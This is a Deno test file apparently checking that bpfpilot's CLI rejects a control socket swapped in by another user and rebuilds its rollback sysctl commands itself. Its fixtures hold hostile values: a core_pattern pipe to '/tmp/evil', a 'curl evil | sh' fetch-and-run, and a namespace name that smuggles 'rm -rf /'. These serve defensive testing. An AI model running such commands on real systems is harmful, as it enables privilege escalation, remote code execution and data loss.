/**
 * A swapped control socket: `nobody` runs a fake daemon in a directory they own that answers the
 * rollback verb with `sysctl -w kernel.core_pattern=|/tmp/evil`. Root's client refuses the socket
 * (owner and directory checked) and, even from a socket it trusts, prints only `sysctl -w` lines
 * it rebuilt itself for sysctls bpfpilot manages.
 */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { IS_ROOT } from "../support/kernel.ts";
import { LAUNCHER } from "../support/daemon.ts";
import { renderAnswer } from "../../src/cli/query.ts";

const EVIL = [{
  tuner: "tcp_buffer",
  sysctl: "kernel.core_pattern",
  original: ["|/tmp/evil"],
  current: ["core"],
  command: "sysctl -w kernel.core_pattern=|/tmp/evil",
}];

/** Serves one connection on $path with the evil rollback answer, then exits. */
const FAKE_DAEMON_PL = `
use IO::Socket::UNIX;
my $s = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Local => $ARGV[0], Listen => 5) or die;
print "ready\\n"; STDOUT->flush;
my $c = $s->accept; my $req = <$c>;
print $c '${JSON.stringify({ v: 1, ok: true, data: EVIL })}' . "\\n";
close $c;
`;

Deno.test({
  name: "a control socket swapped by another user is refused; nothing of its text is printed",
  ignore: !IS_ROOT,
  async fn() {
    const dir = Deno.makeTempDirSync({ prefix: "bpfp-swap-" });
    Deno.chmodSync(dir, 0o755);
    const evilDir = `${dir}/run`;
    Deno.mkdirSync(evilDir);
    Deno.chownSync(evilDir, 65534, 65534);
    const sock = `${evilDir}/control.sock`;
    const fake = new Deno.Command("setpriv", {
      args: [
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "perl",
        "-e",
        FAKE_DAEMON_PL,
        sock,
      ],
      stdout: "piped",
      stderr: "null",
    }).spawn();
    try {
      const reader = fake.stdout.pipeThrough(new TextDecoderStream()).getReader();
      assert.match((await reader.read()).value ?? "", /ready/);
      reader.releaseLock();
      const r = spawnSync(LAUNCHER, ["query", "rollback", "--socket", sock], {
        encoding: "utf8",
        timeout: 20_000,
      });
      assert.equal(r.status, 4, r.stdout + r.stderr);
      assert.match(r.stderr, /refusing the control socket .*owned by uid 65534/);
      assert.doesNotMatch(r.stdout + r.stderr, /core_pattern|evil/);
    } finally {
      try {
        fake.kill("SIGKILL");
      } catch { /* exited */ }
      await fake.status;
      Deno.removeSync(dir, { recursive: true });
    }
  },
});

Deno.test("query rollback prints only sysctl -w lines it rebuilt, for managed sysctls", () => {
  const text = renderAnswer("rollback", [
    ...EVIL,
    {
      tuner: "tcp_buffer",
      sysctl: "net.ipv4.tcp_rmem",
      netns: "blue; rm -rf /",
      original: [4096, 131072, 6291456],
      current: [4096, 131072, 7000000],
      command: "sysctl -w net.ipv4.tcp_rmem='1 1 1'; curl evil | sh",
    },
  ]);
  assert.doesNotMatch(text, /^sysctl -w kernel\.core_pattern/m);
  assert.doesNotMatch(text, /curl/);
  assert.match(text, /# not restored: no bpfpilot tuner manages it/);
  assert.match(
    text,
    /^ip netns exec 'blue; rm -rf \/' sysctl -w net\.ipv4\.tcp_rmem="4096 131072 6291456"$/m,
  );
});
